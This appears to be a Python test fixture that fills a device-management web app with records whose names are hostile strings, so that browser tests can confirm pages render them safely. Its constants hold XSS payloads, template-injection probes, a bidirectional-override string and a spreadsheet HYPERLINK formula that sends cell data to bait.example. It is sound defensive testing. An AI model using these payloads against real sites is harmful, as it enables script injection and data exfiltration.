"""A household in the showroom whose people, places and things all have names that attack pages.

Every page of it is walked, so every page shows some of them. What runs asks for `BAIT`.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

from tests.browser.showroom import Visitor
from tests.services import ROOT

BAIT: Final = "/bait"
# Everything at once, in what the shortest name may be (a user's).
HOSTILE: Final = '"\'><img src=/bait onerror=alert(1)><script>fetch("/bait")</script>hp{{7*7}}hp'
LINK: Final = 'javascript:fetch("/bait") <a href="javascript:alert(1)">x</a> ${7*7} {% debug %}'
TURNED: Final = "\u202eelbat rednu pmaL\u2066 \u0645\u0635\u0628\u0627\u062d"
EMOJI: Final = "\N{GRINNING FACE}" * 100
UNBROKEN: Final = "W" * 100
FORMULA: Final = '=HYPERLINK("http://bait.example/?"&A1,"x")'
NAMES: Final = (HOSTILE, LINK, TURNED, EMOJI, UNBROKEN, FORMULA)
_TAG: Final = HOSTILE.replace("=", "~")
_UNKNOWN: Final = "0" * 20
_DEADLINE_S: Final = 30.0


class HostileHouse:
    """Who owns it, and what stands in the path for an object of each kind."""

    def __init__(self, room: Visitor, folder: Path) -> None:
        self.email = f"mallory-{secrets.token_hex(4)}@example.com"
        self.password = secrets.token_urlsafe(16)
        self.base_url = room.base_url
        self._room = room
        self._ends = contextlib.ExitStack()
        with contextlib.ExitStack() as unfinished:
            unfinished.callback(self.close)
            self.uids = self._filled(folder)
            unfinished.pop_all()

    def names(self, kind: str) -> dict[str, str]:
        """What stands in the path of a page that names such an object."""
        tenant = self.uids["tenant"]
        if kind == "member":
            return {"uid": tenant, "user_uid": self.uids["guest"]}
        return {
            "uid": self.uids.get(kind, _UNKNOWN),
            "site_id": self.uids["site"],
            "command_id": self.uids["command"],
            "batch_id": self.uids["command_batch"],
            "chain": tenant,
            "seq": "1",
            "deed": "deactivate",
            "token": self.uids["invitation_token"],
        }

    def close(self) -> None:
        """End what was started."""
        self._ends.close()

    def _filled(self, folder: Path) -> dict[str, str]:
        me = self._owner()
        now = datetime.now(UTC)
        tenant = me.get("/tenants")["items"][0]["uid"]
        me.patch(f"/tenants/{tenant}", {"name": HOSTILE})
        places = [
            me.post("/sites", {"name": name, "address": name, **where})["site_id"]
            for name, where in zip(
                NAMES, ({"latitude": "53.5", "longitude": "9.9"}, {}, {}), strict=False
            )
        ]
        lamp = self._agent(me, folder)
        me.patch(
            f"/devices/{lamp}",
            {
                "name": HOSTILE,
                "site": places[0],
                "tags": [_TAG, f"room={_TAG}", LINK.replace("=", "~"), TURNED, EMOJI],
                "relay_names": {str(index): name for index, name in enumerate(NAMES[:4])},
            },
        )
        others = [
            me.post(
                f"/devices/sites/{places[index % 3]}/devices",
                {"device_id": f"m-{secrets.token_hex(4)}", "name": name, "relay_count": 2},
            )["uid"]
            for index, name in enumerate(NAMES)
        ]
        boastful = self._boastful(me)
        me.post(f"/devices/{others[3]}/transfer", {})
        me.post(f"/devices/{others[4]}/unpair", {})
        group = me.post(
            "/device-groups",
            {"name": HOSTILE, "description": LINK, "devices": [lamp, *others[:3]]},
        )["uid"]
        me.post("/device-groups", {"name": EMOJI})
        command = me.post(f"/devices/{lamp}/relays/1/commands", {"is_on": True})
        wish = {"config": {HOSTILE: {"led": LINK}}}
        me.patch(f"/devices/{lamp}/twin/desired", wish, **{"If-Match": "*"})
        me.post(f"/devices/{lamp}/ir-codes", {
            "name": HOSTILE, "pronto": "0000 006D 0002 0000 0010 0020 0010 0400",
        })  # fmt: skip
        batch = me.post(
            "/command-batches",
            {"kind": "reboot", "target": {"devices": others[:2]}, "delivery": "queue"},
        )
        key = me.post("/provisioning-keys", {"name": HOSTILE, "max_devices": 5, "expires_in": 3600})
        me.post(
            "/maintenance-windows",
            {
                "starts_at": now.isoformat(),
                "ends_at": (now + timedelta(hours=1)).isoformat(),
                "reason": HOSTILE,
                "site": places[0],
            },
        )
        channel = me.post(
            "/notification-channels",
            {"name": HOSTILE, "transport": "webhook", "url": "https://hooks.example.com/bait"},
        )
        listed = me.post(
            "/enrolments",
            {
                "mode": "api_key",
                "site": places[0],
                "rows": [{"device_id": f"r-{secrets.token_hex(3)}", "name": n} for n in NAMES],
            },
        )
        me.post("/exports", {"kind": "devices"})
        invited = me.post(f"/tenants/{tenant}/invitations", {"role": "viewer"})
        guest = self._guest(me, tenant)
        view = {"name": HOSTILE[:60], "query": "connectivity=online", "pinned": True}
        me.patch("/preferences", {"device_view_state": {"views": {"hostile": view}}})
        return {
            "tenant": tenant,
            "site": places[0],
            "device": lamp,
            "export": _UNKNOWN,
            "boastful": boastful,
            "archived": others[4],
            "offered": others[3],
            "group": group,
            "command": command["id"],
            "command_batch": batch["id"],
            "provisioning_key": key["uid"],
            "notification_channel": channel["uid"],
            "enrolment": listed["uid"],
            "invitation_token": invited["token"],
            "guest": guest,
            "user": guest,
        }

    def _owner(self) -> Visitor:
        room = self._room
        made = room.post("/auth/register", self._wish(self.email, self.password))
        room.patch(f"/admin/users/{made['user']['uid']}", {"platform_role": "admin"})
        return self._visitor(self.email, self.password)

    def _visitor(self, email: str, password: str) -> Visitor:
        visitor = Visitor({**vars(self._room), "admin_email": email, "admin_password": password})
        self._ends.callback(visitor.close)
        return visitor

    def _guest(self, me: Visitor, tenant: str) -> str:
        email, password = f"g-{secrets.token_hex(4)}@example.com", secrets.token_urlsafe(16)
        self._room.post("/auth/register", self._wish(email, password))
        token = me.post(f"/tenants/{tenant}/invitations", {"role": "operator"})["token"]
        guest = self._visitor(email, password)
        guest.post("/invitations/accept", {"token": token})
        return str(guest.get("/auth/me")["uid"])

    @staticmethod
    def _wish(email: str, password: str) -> dict[str, Any]:
        return {"email": email, "password": password, "display_name": HOSTILE}

    def _boastful(self, me: Visitor) -> str:
        """A device that itself says hostile things of what it is."""
        made = me.post(
            "/provision/register",
            {
                "hardware_id": f"hostile-{secrets.token_hex(4)}",
                "device_class": "other",
                "device_type": HOSTILE[:64],
                "model": LINK,
                "firmware_version": HOSTILE[:64],
                "provision_key": self._room.provision_key,
            },
        )
        return str(me.post("/devices/claim", {"claim_code": made["claim_code"]})["uid"])

    def _agent(self, me: Visitor, folder: Path) -> str:
        """A real device with relays and readings, which stays until the end."""
        with (folder / "agent.log").open("ab") as log:
            agent = subprocess.Popen(
                [
                    sys.executable, "-m", "edge.agent", "run", "--url", self.base_url,
                    "--state-dir", str(folder / "state"), "--relays", "4", "--interval", "2",
                    "--hardware-id", f"hostile-{secrets.token_hex(4)}",
                    "--device-class", "relay_controller",
                ],
                env={**os.environ, "DEVICE_PROVISION_KEY": self._room.provision_key},
                cwd=ROOT,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
                start_new_session=True,
            )  # fmt: skip
        self._ends.callback(agent.wait)
        self._ends.callback(agent.kill)
        code = _soon(lambda: _code_in(folder / "agent.log"))
        uid = str(me.post("/devices/claim", {"claim_code": code})["uid"])
        _soon(lambda: me.get(f"/devices/{uid}")["connectivity"] == "online")
        return uid


def _code_in(log: Path) -> str:
    text = log.read_text(encoding="utf-8")
    return text.partition("claim code ")[2][:8] if "claim code " in text else ""


def _soon(found: Any) -> Any:
    deadline = time.monotonic() + _DEADLINE_S
    while not (value := found()):
        if time.monotonic() > deadline:
            raise AssertionError("It did not become so.")
        time.sleep(0.1)
    return value


@contextlib.contextmanager
def hostile_house(room: Visitor, folder: Path) -> Iterator[HostileHouse]:
    """The house, filled; its agent ends with it."""
    house = HostileHouse(room, folder)
    try:
        yield house
    finally:
        house.close()
